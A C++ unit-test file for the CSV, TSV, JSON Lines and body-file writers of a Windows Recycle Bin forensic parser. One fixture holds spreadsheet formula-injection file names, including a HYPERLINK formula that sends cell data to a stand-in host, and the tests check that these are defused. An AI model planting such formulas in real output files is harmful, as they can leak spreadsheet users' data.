#include "report/report_formats.h"

#include <gtest/gtest.h>

#include <cerrno>
#include <cstdint>
#include <cstring>
#include <string>
#include <vector>

#include "common/test_tree.h"
#include "decode/recycle_record.h"
#include "decode/test_index_files.h"

using test_index::filetime_utc;

namespace {

std::string le16(const std::u16string& s) { return test_index::utf16(s); }

const unsigned char* bytes(const std::string& s) {
  return reinterpret_cast<const unsigned char*>(s.data());
}

const char kSid[] = "S-1-5-21-1-2-3-1001";
const char kDir[] = "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/";

// The records of the tests, with the storage their views point into.
struct Records {
  // A real Windows 10 name: two characters above the BMP, three CJK.
  std::string cjk_units = le16(u"C:\\Temp\\\U00028CCA\U00028D99\u90a8\u95aa\u9c02");
  std::string lone_units = le16(u"D:\\\xDC82x.ahk");
  std::string awkward_units = le16(u"C:\\a,b\\say \"hi\"\\line\nnext\ttab\r|.t,x");
  std::string truncated_units = le16(u"C:\\Users\\tes");
  std::string ansi = "\\caf\xE9.txt";  // after the zeroed first byte

  RecycleRecord cjk() const {
    RecycleRecord r;
    r.directory = kDir;
    r.file_name = "$IBBFODN";
    r.entry_name = r.file_name;
    r.user_sid = kSid;
    r.opened = true;
    r.format = RecordFormat::kV2;
    r.has_fields = true;
    r.has_size = true;
    r.has_deleted = true;
    r.size = 7;
    r.deleted = filetime_utc(2015, 4, 7, 23, 19, 35, 5000000);
    r.path_utf16 = bytes(cjk_units);
    r.path_units = cjk_units.size() / 2;
    return r;
  }

  // A v1 record with its $R file present.
  RecycleRecord with_companion() const {
    RecycleRecord r = cjk();
    r.file_name = "$I7R52EG.txt";
    r.entry_name = r.file_name;
    r.format = RecordFormat::kV1;
    r.size = 14;
    r.deleted = filetime_utc(2015, 4, 4, 17, 24, 9, 1234567);
    static const std::string units = le16(u"C:\\Temp\\foobat.txt.txt");
    r.path_utf16 = bytes(units);
    r.path_units = units.size() / 2;
    r.companion.kind = CompanionKind::kFile;
    r.companion.size = 14;
    r.companion.times.last_write = filetime_utc(2020, 1, 2, 3, 4, 5, 1);
    r.companion.times.last_access = filetime_utc(2021, 6, 1, 12, 0, 0);
    r.companion.times.creation = filetime_utc(2019, 5, 7, 21, 1, 1, 9999999);
    return r;
  }

  RecycleRecord lone() const {
    RecycleRecord r = cjk();
    r.directory = "/bin/";
    r.file_name = "$I77T7B2.ahk";
    r.entry_name = r.file_name;
    r.user_sid = "";
    r.path_utf16 = bytes(lone_units);
    r.path_units = lone_units.size() / 2;
    return r;
  }

  RecycleRecord cannot_open() const {
    RecycleRecord r;
    r.directory = kDir;
    r.file_name = "$ILOCKED.doc";
    r.entry_name = r.file_name;
    r.user_sid = kSid;
    r.opened = false;
    r.warnings = kWarnCannotOpen;
    r.companion.kind = CompanionKind::kDirectory;
    r.companion.times.last_write = filetime_utc(2020, 1, 2, 3, 4, 5);
    r.companion.times.last_access = filetime_utc(2020, 1, 2, 3, 4, 5);
    return r;
  }

  RecycleRecord truncated() const {
    RecycleRecord r = cjk();
    r.file_name = "$ISHORT";
    r.entry_name = r.file_name;
    r.has_fields = false;
    r.has_size = false;
    r.has_deleted = false;
    r.path_utf16 = nullptr;
    r.path_units = 0;
    r.warnings = kWarnTruncated;
    return r;
  }

  RecycleRecord truncated_name() const {
    RecycleRecord r = cjk();
    r.file_name = "$ICUT";
    r.entry_name = r.file_name;
    r.path_utf16 = bytes(truncated_units);
    r.path_units = truncated_units.size() / 2;
    r.warnings = kWarnTruncated | kWarnSizeMismatch | kWarnTimeOutOfRange;
    r.deleted = 1;  // 1601-01-01T00:00:00.0000001Z: shown, and doubted
    return r;
  }

  RecycleRecord awkward() const {
    RecycleRecord r = cjk();
    r.directory = "/case,1/\"x\"/a\tb\\c/";
    r.file_name = "$IAWK.x";
    r.entry_name = r.file_name;
    r.user_sid = "";
    r.path_utf16 = bytes(awkward_units);
    r.path_units = awkward_units.size() / 2;
    r.deleted = filetime_utc(10000, 1, 1, 0, 0, 0) - 1;
    return r;
  }

  RecycleRecord out_of_range() const {
    RecycleRecord r = cjk();
    r.file_name = "$IFAR";
    r.entry_name = r.file_name;
    r.deleted = filetime_utc(10000, 1, 1, 0, 0, 0);
    r.warnings = kWarnTimeOutOfRange;
    r.companion.kind = CompanionKind::kOther;
    r.companion.times.last_write = UINT64_C(0x8000000000000000);
    return r;
  }

  RecycleRecord info2_purged() const {
    RecycleRecord r;
    r.source_prefix = "IMAGE:p2:";
    r.directory = "/RECYCLER/S-1-5-21-9-9-9-500/";
    r.file_name = "INFO2";
    r.entry_name = "Dc3.txt";
    r.user_sid = "S-1-5-21-9-9-9-500";
    r.opened = true;
    r.format = RecordFormat::kInfo2;
    r.has_fields = true;
    r.has_size = true;
    r.has_deleted = true;
    r.size = 4294967295LL;
    r.deleted = filetime_utc(2019, 5, 7, 21, 1, 1);
    r.path_ansi = bytes(ansi);
    r.path_ansi_length = ansi.size();
    r.drive_letter = 'C';
    r.warnings = kWarnRestoredOrPurged;
    r.companion.kind = CompanionKind::kFile;
    r.companion.size = 3;
    return r;
  }
};

const char kCjkPath[] = "C:\\Temp\\\xF0\xA8\xB3\x8A\xF0\xA8\xB6\x99\xE9\x82\xA8\xE9\x96\xAA\xE9\xB0\x82";
const char kCjkSource[] = "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$IBBFODN";

class Writers : public ::testing::Test {
 protected:
  void SetUp() override {
    handle_ = open_output_device(tree_.path("out").c_str(), false);
    ASSERT_NE(handle_, kInvalidHandle);
    sink_ = ReportSink(handle_);
  }
  void TearDown() override { close_file(handle_); }

  // Everything a writer of `format` writes for the header and `records`.
  std::string run(const char* format, const std::vector<RecycleRecord>& records,
                  bool header = true) {
    auto writer = make_structured_writer(format, &sink_, WriterSettings());
    EXPECT_NE(writer, nullptr);
    if (!writer) return "";
    if (header) {
      EXPECT_TRUE(writer->write_header());
    }
    for (const RecycleRecord& r : records) EXPECT_TRUE(writer->write_record(r));
    return tree_.read("out");
  }

  TestTree tree_;
  FileHandle handle_ = kInvalidHandle;
  ReportSink sink_{kInvalidHandle};
  Records rec_;
};

// Splits CSV text (RFC 4180) into records of fields; fails the test on
// anything a strict reader refuses.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string field;
  size_t i = 0;
  bool at_field_start = true;
  while (i < text.size()) {
    if (at_field_start && text[i] == '"') {
      ++i;
      for (;;) {
        if (i >= text.size()) {
          ADD_FAILURE() << "unterminated quoted field";
          return rows;
        }
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field.push_back('"');
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field.push_back(text[i++]);
      }
      if (i < text.size() && text[i] != ',' && text[i] != '\r') {
        ADD_FAILURE() << "text after a quoted field at " << i;
        return rows;
      }
      at_field_start = false;
      continue;
    }
    at_field_start = false;
    if (text[i] == ',') {
      row.push_back(field);
      field.clear();
      at_field_start = true;
      ++i;
    } else if (text[i] == '\r') {
      if (i + 1 >= text.size() || text[i + 1] != '\n') {
        ADD_FAILURE() << "CR without LF at " << i;
        return rows;
      }
      row.push_back(field);
      field.clear();
      rows.push_back(row);
      row.clear();
      at_field_start = true;
      i += 2;
    } else if (text[i] == '\n' || text[i] == '"') {
      ADD_FAILURE() << "bare LF or quote in an unquoted field at " << i;
      return rows;
    } else {
      field.push_back(text[i++]);
    }
  }
  EXPECT_TRUE(at_field_start && row.empty()) << "last record without CRLF";
  return rows;
}

const std::vector<std::string> kFieldNames = {
    "source",         "user_sid",           "format",             "size",
    "deleted",        "original_path",      "extension",          "companion",
    "companion_size", "companion_modified", "companion_accessed", "companion_created",
    "warnings",       "entry_name",         "index_created",      "index_modified",
    "companion_changed", "image",           "volume",             "entry",
    "offset",         "user_name",          "parent_source",      "companion_md5",
    "companion_sha1", "companion_sha256",   "zone_id",            "host_url",
    "referrer_url"};
constexpr size_t kFirstFields = 13;  // up to warnings

const char kCsvHeader[] =
    "source,user_sid,format,size,deleted,original_path,extension,companion,companion_size,"
    "companion_modified,companion_accessed,companion_created,warnings,entry_name,index_created,"
    "index_modified,companion_changed,image,volume,entry,offset,user_name,parent_source,"
    "companion_md5,companion_sha1,companion_sha256,zone_id,host_url,referrer_url\r\n";

// The fields after warnings of a record that has only its entry name.
std::string csv_tail(const std::string& entry_name) { return "," + entry_name + ",,,,,,,,,,,,,,,"; }
std::string tsv_tail(const std::string& entry_name) {
  return "\t" + entry_name + std::string(15, '\t');
}
std::string json_tail(const std::string& entry_name) {
  return ",\"entry_name\":\"" + entry_name +
         "\",\"index_created\":null,\"index_modified\":null,\"companion_changed\":null,"
         "\"image\":null,\"volume\":null,\"entry\":null,\"offset\":null,\"user_name\":null,"
         "\"parent_source\":null,\"companion_md5\":null,\"companion_sha1\":null,"
         "\"companion_sha256\":null,\"zone_id\":null,\"host_url\":null,\"referrer_url\":null}";
}

std::vector<std::string> first_fields(const std::vector<std::string>& row) {
  return std::vector<std::string>(row.begin(), row.begin() + std::min(row.size(), kFirstFields));
}
std::vector<std::string> last_fields(const std::vector<std::string>& row) {
  return std::vector<std::string>(row.begin() + std::min(row.size(), kFirstFields), row.end());
}
std::vector<std::string> only_entry_name(const std::string& entry_name) {
  std::vector<std::string> fields(kFieldNames.size() - kFirstFields);
  fields[0] = entry_name;
  return fields;
}

TEST_F(Writers, CsvHeaderAndCjkRecord) {
  const std::string out = run("csv", {rec_.cjk()});
  EXPECT_EQ(out, kCsvHeader + std::string(kCjkSource) +
                     ",S-1-5-21-1-2-3-1001,v2,7,2015-04-07T23:19:35.5000000Z," + kCjkPath +
                     ",,missing,,,,," + csv_tail("$IBBFODN") + "\r\n");
}

TEST_F(Writers, CsvWithoutHeader) {
  const std::string out = run("csv", {rec_.cjk()}, false);
  EXPECT_EQ(out.substr(0, sizeof kCjkSource - 1), kCjkSource);
}

TEST_F(Writers, CsvParsesBackToTheFields) {
  const std::string out = run("csv",
                              {rec_.awkward(), rec_.with_companion(), rec_.cannot_open(),
                               rec_.truncated(), rec_.lone(), rec_.info2_purged()});
  const auto rows = parse_csv(out);
  ASSERT_EQ(rows.size(), 7u);
  EXPECT_EQ(rows[0], kFieldNames);
  for (const auto& row : rows) EXPECT_EQ(row.size(), kFieldNames.size());
  EXPECT_EQ(last_fields(rows[1]), only_entry_name("$IAWK.x"));
  EXPECT_EQ(last_fields(rows[2]), only_entry_name("$I7R52EG.txt"));
  EXPECT_EQ(last_fields(rows[3]), only_entry_name("$ILOCKED.doc"));
  EXPECT_EQ(last_fields(rows[4]), only_entry_name("$ISHORT"));
  EXPECT_EQ(last_fields(rows[6]), only_entry_name("Dc3.txt"));
  EXPECT_EQ(first_fields(rows[1]), (std::vector<std::string>{
                         "/case,1/\"x\"/a\tb\\c/$IAWK.x", "", "v2", "7",
                         "9999-12-31T23:59:59.9999999Z",
                         "C:\\a,b\\say \"hi\"\\line\nnext\ttab\r|.t,x", "t,x", "missing", "", "",
                         "", "", ""}));
  EXPECT_EQ(first_fields(rows[2]), (std::vector<std::string>{
                         "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$I7R52EG.txt",
                         "S-1-5-21-1-2-3-1001", "v1", "14", "2015-04-04T17:24:09.1234567Z",
                         "C:\\Temp\\foobat.txt.txt", "txt", "file", "14",
                         "2020-01-02T03:04:05.0000001Z", "2021-06-01T12:00:00.0000000Z",
                         "2019-05-07T21:01:01.9999999Z", ""}));
  // A file that could not be opened: its companion fields and nothing else.
  EXPECT_EQ(first_fields(rows[3]), (std::vector<std::string>{
                         "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$ILOCKED.doc",
                         "S-1-5-21-1-2-3-1001", "unknown", "", "", "", "", "directory", "",
                         "2020-01-02T03:04:05.0000000Z", "2020-01-02T03:04:05.0000000Z", "",
                         "cannot-open"}));
  EXPECT_EQ(first_fields(rows[4]), (std::vector<std::string>{
                         "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$ISHORT", "S-1-5-21-1-2-3-1001",
                         "v2", "", "", "", "", "missing", "", "", "", "", "truncated"}));
  EXPECT_EQ(rows[5][5], "D:\\\xEF\xBF\xBDx.ahk");
  EXPECT_EQ(rows[5][6], "ahk");
  EXPECT_EQ(rows[5][12], "lone-surrogate");
  EXPECT_EQ(first_fields(rows[6]), (std::vector<std::string>{
                         "IMAGE:p2:/RECYCLER/S-1-5-21-9-9-9-500/INFO2", "S-1-5-21-9-9-9-500",
                         "info2", "4294967295", "2019-05-07T21:01:01.0000000Z",
                         "C\\caf\xC3\xA9.txt", "txt", "file", "3", "", "", "",
                         "restored-or-purged"}));
}

RecycleRecord size_only(const Records& rec) {
  RecycleRecord r = rec.truncated();
  r.has_size = true;  // 16 to 23 bytes: the size, not the time
  r.size = 1234;
  r.deleted = 0;
  return r;
}

TEST_F(Writers, ShortFileShowsTheFieldsItHolds) {
  const auto rows = parse_csv(run("csv", {size_only(rec_)}, false));
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0][3], "1234");
  EXPECT_EQ(rows[0][4], "");
  EXPECT_EQ(rows[0][12], "truncated");
}

TEST_F(Writers, ShortFileInTheBodyFile) {
  EXPECT_EQ(run("body", {size_only(rec_)}),
            "0| (deleted; /case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$ISHORT)|0|0|0|0|1234|0|0|0|0\n");
}

TEST_F(Writers, WarningsInTheirOrderJoinedWithSemicolons) {
  Records r;
  RecycleRecord all = r.cjk();
  all.warnings = (1u << kWarningCount) - 1;
  const std::string out = run("csv", {r.truncated_name(), all}, false);
  const auto rows = parse_csv(out);
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[0][4], "1601-01-01T00:00:00.0000001Z");
  EXPECT_EQ(rows[0][5], "C:\\Users\\tes");
  EXPECT_EQ(rows[0][12], "truncated;size-mismatch;time-out-of-range");
  EXPECT_EQ(rows[1][12],
            "cannot-open;truncated;unknown-version;name-length-mismatch;size-mismatch;"
            "time-out-of-range;lone-surrogate;restored-or-purged;recovered;one-byte-short;"
            "size-out-of-range;codepage-undefined;scanned;companion-deleted");
}

TEST_F(Writers, LoneSurrogateWarnedOnce) {
  RecycleRecord lone = rec_.lone();
  lone.warnings = kWarnLoneSurrogate;  // the decoder may have found it too
  const std::string out = run("tsv", {lone}, false);
  EXPECT_EQ(out,
            "/bin/$I77T7B2.ahk\t\tv2\t7\t2015-04-07T23:19:35.5000000Z\tD:\\\\\xEF\xBF\xBDx.ahk\tahk\t"
            "missing\t\t\t\t\tlone-surrogate" + tsv_tail("$I77T7B2.ahk") + "\n");
}

TEST_F(Writers, TsvEscapesAndHeader) {
  const std::string out = run("tsv", {rec_.awkward(), rec_.out_of_range()});
  EXPECT_EQ(out,
            "source\tuser_sid\tformat\tsize\tdeleted\toriginal_path\textension\tcompanion\t"
            "companion_size\tcompanion_modified\tcompanion_accessed\tcompanion_created\twarnings\t"
            "entry_name\tindex_created\tindex_modified\tcompanion_changed\timage\tvolume\tentry\t"
            "offset\tuser_name\tparent_source\tcompanion_md5\tcompanion_sha1\tcompanion_sha256\t"
            "zone_id\thost_url\treferrer_url\n"
            "/case,1/\"x\"/a\\tb\\\\c/$IAWK.x\t\tv2\t7\t9999-12-31T23:59:59.9999999Z\t"
            "C:\\\\a,b\\\\say \"hi\"\\\\line\\nnext\\ttab\\r|.t,x\tt,x\tmissing\t\t\t\t\t" +
                tsv_tail("$IAWK.x") +
                "\n"
                "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$IFAR\tS-1-5-21-1-2-3-1001\tv2\t7\t\t"
                "C:\\\\Temp\\\\" +
                std::string(kCjkPath + 8) + "\t\tother\t\t\t\t\ttime-out-of-range" +
                tsv_tail("$IFAR") + "\n");
}

TEST_F(Writers, JsonLines) {
  const std::string out =
      run("jsonl", {rec_.cjk(), rec_.cannot_open(), rec_.awkward()});
  EXPECT_EQ(out,
            "{\"source\":\"" + std::string(kCjkSource) +
                "\",\"user_sid\":\"S-1-5-21-1-2-3-1001\",\"format\":\"v2\",\"size\":7,"
                "\"deleted\":\"2015-04-07T23:19:35.5000000Z\",\"original_path\":\"C:\\\\Temp\\\\" +
                std::string(kCjkPath + 8) +
                "\",\"extension\":null,\"companion\":\"missing\",\"companion_size\":null,"
                "\"companion_modified\":null,\"companion_accessed\":null,"
                "\"companion_created\":null,\"warnings\":[]" +
                json_tail("$IBBFODN") +
                "\n"
                "{\"source\":\"/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$ILOCKED.doc\","
                "\"user_sid\":\"S-1-5-21-1-2-3-1001\",\"format\":\"unknown\",\"size\":null,"
                "\"deleted\":null,\"original_path\":null,\"extension\":null,"
                "\"companion\":\"directory\",\"companion_size\":null,"
                "\"companion_modified\":\"2020-01-02T03:04:05.0000000Z\","
                "\"companion_accessed\":\"2020-01-02T03:04:05.0000000Z\","
                "\"companion_created\":null,\"warnings\":[\"cannot-open\"]" +
                json_tail("$ILOCKED.doc") +
                "\n"
                "{\"source\":\"/case,1/\\\"x\\\"/a\\u0009b\\\\c/$IAWK.x\",\"user_sid\":null,"
                "\"format\":\"v2\",\"size\":7,\"deleted\":\"9999-12-31T23:59:59.9999999Z\","
                "\"original_path\":\"C:\\\\a,b\\\\say \\\"hi\\\"\\\\line\\u000Anext\\u0009tab"
                "\\u000D|.t,x\",\"extension\":\"t,x\",\"companion\":\"missing\","
                "\"companion_size\":null,\"companion_modified\":null,\"companion_accessed\":null,"
                "\"companion_created\":null,\"warnings\":[]" +
                json_tail("$IAWK.x") + "\n");
}

// Names an attacker chose, each starting with what a spreadsheet takes for
// a formula.
struct FormulaRecords {
  std::string path = le16(u"=HYPERLINK(\"http://x/?\"&A1,\"a\")\\b.@c");
  std::string separators = le16(u"+1\u2028-2\u2029.ext");
  RecycleRecord hyperlink() const {
    RecycleRecord r;
    r.directory = "-case/@S-1-5-21-1-2-3-1001/";
    r.file_name = "$IHYPER";
    r.entry_name = r.file_name;
    r.opened = true;
    r.format = RecordFormat::kV1;
    r.has_fields = true;
    r.has_size = true;
    r.size = -5;  // a number: never changed
    r.path_utf16 = bytes(path);
    r.path_units = path.size() / 2;
    r.companion.kind = CompanionKind::kFile;
    r.companion.size = 3;
    return r;
  }
  RecycleRecord tab_and_cr(const char* directory) const {
    RecycleRecord r = hyperlink();
    r.directory = directory;
    r.path_utf16 = bytes(separators);
    r.path_units = separators.size() / 2;
    return r;
  }
};

TEST_F(Writers, CsvAndTsvDefuseFormulas) {
  const FormulaRecords f;
  const auto rows = parse_csv(
      run("csv", {f.hyperlink(), f.tab_and_cr("\t/"), f.tab_and_cr("\r/")}, false));
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0][0], "'-case/@S-1-5-21-1-2-3-1001/$IHYPER");
  EXPECT_EQ(rows[0][3], "-5");
  EXPECT_EQ(rows[0][5], "'=HYPERLINK(\"http://x/?\"&A1,\"a\")\\b.@c");
  EXPECT_EQ(rows[0][6], "'@c");
  EXPECT_EQ(rows[0][8], "3");
  EXPECT_EQ(rows[1][0], "'\t/$IHYPER");
  EXPECT_EQ(rows[1][5], "'+1\xE2\x80\xA8-2\xE2\x80\xA9.ext");
  EXPECT_EQ(rows[1][6], "ext");
  EXPECT_EQ(rows[2][0], "'\r/$IHYPER");
}

TEST_F(Writers, TsvDefusesFormulasBeforeEscaping) {
  const FormulaRecords f;
  const std::string out = run("tsv", {f.tab_and_cr("\t/")}, false);
  EXPECT_EQ(out, "'\\t/$IHYPER\t\tv1\t-5\t\t'+1\xE2\x80\xA8-2\xE2\x80\xA9.ext\text\tfile\t3\t\t\t\t" +
                     tsv_tail("$IHYPER") + "\n");
}

TEST_F(Writers, JsonKeepsFormulasAndEscapesLineSeparators) {
  const FormulaRecords f;
  const std::string out = run("jsonl", {f.hyperlink(), f.tab_and_cr("\t/")});
  EXPECT_NE(out.find("\"source\":\"-case/@S-1-5-21-1-2-3-1001/$IHYPER\""), std::string::npos) << out;
  EXPECT_NE(out.find("\"size\":-5,"), std::string::npos) << out;
  EXPECT_NE(out.find("\"original_path\":\"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"a\\\")\\\\b.@c\","
                     "\"extension\":\"@c\""),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("\"original_path\":\"+1\\u2028-2\\u2029.ext\""), std::string::npos) << out;
  EXPECT_EQ(out.find("\xE2\x80\xA8"), std::string::npos) << out;
}

TEST_F(Writers, JsonNumbersAndWarningArrays) {
  RecycleRecord negative = rec_.with_companion();
  negative.size = -9223372036854755328LL;
  negative.warnings = kWarnSizeMismatch | kWarnTimeOutOfRange;
  const std::string out = run("jsonl", {negative});
  EXPECT_NE(out.find("\"size\":-9223372036854755328,"), std::string::npos) << out;
  EXPECT_NE(out.find("\"companion_size\":14,"), std::string::npos) << out;
  EXPECT_NE(out.find("\"warnings\":[\"size-mismatch\",\"time-out-of-range\"],\"entry_name\""),
            std::string::npos)
      << out;
}

TEST_F(Writers, BodyFile) {
  const std::string out = run("body",
                              {rec_.cjk(), rec_.with_companion(), rec_.cannot_open(),
                               rec_.awkward(), rec_.info2_purged(), rec_.out_of_range()});
  EXPECT_EQ(out,
            // Deleted, no companion: one line, all four times the deletion.
            "0|" + std::string(kCjkPath) + " (deleted; " + kCjkSource +
                ")|0|0|0|0|7|1428448775|1428448775|1428448775|1428448775\n"
                // With its $R file: the content's own times, ctime 0.
                "0|C:\\Temp\\foobat.txt.txt (deleted; "
                "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$I7R52EG.txt)|0|0|0|0|14|"
                "1428168249|1428168249|1428168249|1428168249\n"
                "0|C:\\Temp\\foobat.txt.txt (recycled content; "
                "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$R7R52EG.txt)|0|0|0|0|14|"
                "1622548800|1577934245|0|1557262861\n"
                // Could not be opened: no path, no size, no time; a directory
                // companion has size 0.
                "0| (deleted; /case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$ILOCKED.doc)|0|0|0|0|0|0|0|"
                "0|0\n"
                "0| (recycled content; /case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$RLOCKED.doc)"
                "|0|0|0|0|0|1577934245|1577934245|0|0\n"
                // "|" and control characters become "?".
                "0|C:\\a,b\\say \"hi\"\\line?next?tab??.t,x (deleted; /case,1/\"x\"/a?b\\c/"
                "$IAWK.x)|0|0|0|0|7|253402300799|253402300799|253402300799|253402300799\n"
                // An INFO2 record: the companion is its Dc file.
                "0|C\\caf\xC3\xA9.txt (deleted; IMAGE:p2:/RECYCLER/S-1-5-21-9-9-9-500/INFO2)|0|0|0|0|"
                "4294967295|1557262861|1557262861|1557262861|1557262861\n"
                "0|C\\caf\xC3\xA9.txt (recycled content; "
                "IMAGE:p2:/RECYCLER/S-1-5-21-9-9-9-500/Dc3.txt)|0|0|0|0|3|0|0|0|0\n"
                // A time past 9999 is unknown; an "other" companion has size 0.
                "0|" +
                kCjkPath + " (deleted; /case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$IFAR)|0|0|0|0|7|0|0|0|0\n"
                "0|" +
                kCjkPath +
                " (recycled content; /case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$RFAR)|0|0|0|0|0|0|0|0|0\n");
}

// A record of an image run with every field after warnings filled, as later
// steps of a run fill them.
RecycleRecord everything(const Records& rec) {
  RecycleRecord r = rec.with_companion();
  r.source_prefix = "IMAGE:p2:";
  r.image = "case/disk.E01";
  r.volume = "p2:vss1";
  r.has_entry = true;
  r.entry = 141;
  r.has_offset = true;
  r.offset = 1048576;
  r.user_name = "=tester";  // a name is text: a spreadsheet must not run it
  r.parent_source = "IMAGE:p2:/$Recycle.Bin/S-1-5-21-1-2-3-1001/$RFOLDER";
  r.index_created = filetime_utc(2015, 4, 4, 17, 24, 9, 1000000);
  r.index_modified = filetime_utc(2015, 4, 4, 17, 24, 9, 2000000);
  r.companion.times.change = filetime_utc(2015, 4, 4, 17, 24, 9, 3000000);
  r.companion.has_entry = true;
  r.companion.entry = 142;
  r.companion.md5 = "0cc175b9c0f1b6a831c399e269772661";
  r.companion.sha1 = "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8";
  r.companion.sha256 = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb";
  r.companion.has_zone_id = true;
  r.companion.zone_id = 3;
  r.companion.host_url = "https://example.com/a,b";
  r.companion.referrer_url = "https://example.com/";
  return r;
}

TEST_F(Writers, FieldsAfterWarningsInTheirOrder) {
  const auto rows = parse_csv(run("csv", {everything(rec_)}));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[0], kFieldNames);
  EXPECT_EQ(rows[1][0], "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$I7R52EG.txt");
  EXPECT_EQ(last_fields(rows[1]),
            (std::vector<std::string>{
                "$I7R52EG.txt", "2015-04-04T17:24:09.1000000Z", "2015-04-04T17:24:09.2000000Z",
                "2015-04-04T17:24:09.3000000Z", "case/disk.E01", "p2:vss1", "141", "1048576",
                "'=tester", "IMAGE:p2:/$Recycle.Bin/S-1-5-21-1-2-3-1001/$RFOLDER",
                "0cc175b9c0f1b6a831c399e269772661", "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8",
                "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb", "3",
                "https://example.com/a,b", "https://example.com/"}));
}

// An entry inside a recycled folder, as the folder's contents give it.
RecycleRecord content_entry(const Records& rec) {
  RecycleRecord r = rec.with_companion();
  r.source_prefix = "IMAGE:p2:";
  r.directory = "/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$R7R52EG.txt/Fotos/";
  r.file_name = "Gr\xC3\xBC\xC3\x9F.JPG";
  r.entry_name = {};
  r.format = RecordFormat::kContent;
  r.has_fields = r.has_size = false;
  r.content_path = "Fotos\\Gr\xC3\xBC\xC3\x9F.JPG";
  r.parent_source = "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$I7R52EG.txt";
  r.user_name = "J\xC3\xBCrgen";
  r.companion.size = 4096;
  r.companion.has_entry = true;
  r.companion.entry = 77;
  r.companion.times.change = filetime_utc(2015, 4, 4, 17, 24, 9);
  return r;
}

TEST_F(Writers, AContentEntryInTheCsv) {
  const auto rows = parse_csv(run("csv", {content_entry(rec_)}));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(first_fields(rows[1]),
            (std::vector<std::string>{
                "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$R7R52EG.txt/Fotos/Gr\xC3\xBC\xC3\x9F.JPG",
                kSid, "content", "", "2015-04-04T17:24:09.1234567Z",
                "C:\\Temp\\foobat.txt.txt\\Fotos\\Gr\xC3\xBC\xC3\x9F.JPG", "JPG", "file", "4096",
                "2020-01-02T03:04:05.0000001Z", "2021-06-01T12:00:00.0000000Z",
                "2019-05-07T21:01:01.9999999Z", ""}));
  // No index file: no entry name, index times or entry; the entry's own
  // change time; the user and the parent.
  std::vector<std::string> tail(kFieldNames.size() - kFirstFields);
  tail[3] = "2015-04-04T17:24:09.0000000Z";
  tail[8] = "J\xC3\xBCrgen";
  tail[9] = "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$I7R52EG.txt";
  EXPECT_EQ(last_fields(rows[1]), tail);
}

TEST_F(Writers, AContentEntryInTheBodyFileIsOneLineWithItsOwnTimes) {
  EXPECT_EQ(run("body", {content_entry(rec_)}),
            "0|C:\\Temp\\foobat.txt.txt\\Fotos\\Gr\xC3\xBC\xC3\x9F.JPG (recycled content; "
            "IMAGE:p2:/case/$RECYCLE.BIN/S-1-5-21-1-2-3-1001/$R7R52EG.txt/Fotos/Gr\xC3\xBC\xC3\x9F.JPG)"
            "|77|0|0|0|4096|1622548800|1577934245|1428168249|1557262861\n");
}

TEST_F(Writers, AContentFolderInTheBodyFileHasSizeZero) {
  RecycleRecord folder = content_entry(rec_);
  folder.companion.kind = CompanionKind::kDirectory;
  folder.content_path = "Fotos";
  folder.file_name = "Fotos";
  folder.directory = "/$R7R52EG.txt/";
  EXPECT_EQ(run("body", {folder}),
            "0|C:\\Temp\\foobat.txt.txt\\Fotos (recycled content; IMAGE:p2:/$R7R52EG.txt/Fotos)"
            "|77|0|0|0|0|1622548800|1577934245|1428168249|1557262861\n");
}

TEST_F(Writers, EntryOffsetAndZoneAreJsonNumbers) {
  const std::string out = run("jsonl", {everything(rec_)});
  EXPECT_NE(out.find(",\"volume\":\"p2:vss1\",\"entry\":141,\"offset\":1048576,"
                     "\"user_name\":\"=tester\","),
            std::string::npos)
      << out;
  EXPECT_NE(out.find(",\"zone_id\":3,\"host_url\":\"https://example.com/a,b\","), std::string::npos)
      << out;
  // Entry 0 is an entry (the MFT's own): shown, not taken for none.
  RecycleRecord zero = everything(rec_);
  zero.entry = 0;
  zero.offset = 0;
  zero.companion.zone_id = 0;
  const std::string zeros = run("jsonl", {zero});
  EXPECT_NE(zeros.find("\"entry\":0,\"offset\":0,"), std::string::npos) << zeros;
  EXPECT_NE(zeros.find("\"zone_id\":0,"), std::string::npos) << zeros;
}

TEST_F(Writers, AMissingCompanionHasNoChangeTime) {
  RecycleRecord r = everything(rec_);
  r.companion.kind = CompanionKind::kMissing;
  const auto rows = parse_csv(run("csv", {r}, false));
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0][16], "");  // companion_changed
  EXPECT_EQ(rows[0][14], "2015-04-04T17:24:09.1000000Z");  // the index file's own stay
}

